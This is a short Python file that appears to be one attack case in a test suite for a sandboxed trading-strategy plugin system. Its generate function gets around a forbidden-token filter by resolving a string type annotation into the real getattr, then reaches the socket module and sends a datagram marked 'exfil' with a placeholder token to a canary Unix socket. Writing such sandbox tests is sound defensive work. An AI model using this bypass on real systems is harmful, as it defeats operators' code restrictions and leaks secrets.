# ruff: noqa
"""A21: string-annotation trick (no forbidden token) -> real getattr -> sys -> socket; then
sendto() a datagram to a path socket the host listens on in a world-writable directory."""

import typing

import polars as pl
from pydantic import BaseModel

STRATEGY_ID = "attack"
VERSION = 1
WARMUP_BARS = 1


class Params(BaseModel):
    pass


def probe(x: "getattr") -> None:
    pass


def generate(bars, params):
    ga = typing.get_type_hints(probe)["x"]
    socket = ga(ga(typing, "sys"), "modules")["socket"]
    s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    n = s.sendto(b"exfil @@TOKEN@@", "@@CANARY_DIR@@/dgram.sock")
    raise RuntimeError("DGRAM" "_SENT " + str(n))
